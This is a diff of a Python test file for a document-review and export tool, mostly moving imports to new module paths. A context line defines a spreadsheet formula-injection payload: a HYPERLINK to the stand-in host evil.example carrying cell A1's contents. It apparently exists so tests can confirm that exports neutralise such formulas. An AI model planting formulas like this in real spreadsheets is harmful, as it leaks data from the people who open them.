@@ -11,13 +11,15 @@ import pytest
 from docx import Document
 from openpyxl import load_workbook
 
-from reviewer.core import exports, production, production_export
+from reviewer.core import exports
 from reviewer.core.errors import ProductionError, ReviewerError
 from reviewer.core.exports.inert import safe_name
 from reviewer.core.exports.report import Column, Report
-from reviewer.core.ingest import import_files
-from reviewer.core.matter import Matter
+from reviewer.core.ingest.pipeline import import_files
+from reviewer.core.matter.store import Matter
 from reviewer.core.pdf import PdfWriter, pdf_text
+from reviewer.core.production import export as production_export
+from reviewer.core.production import sets as production
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 LONG = " ".join(f"word{i}" for i in range(2500))
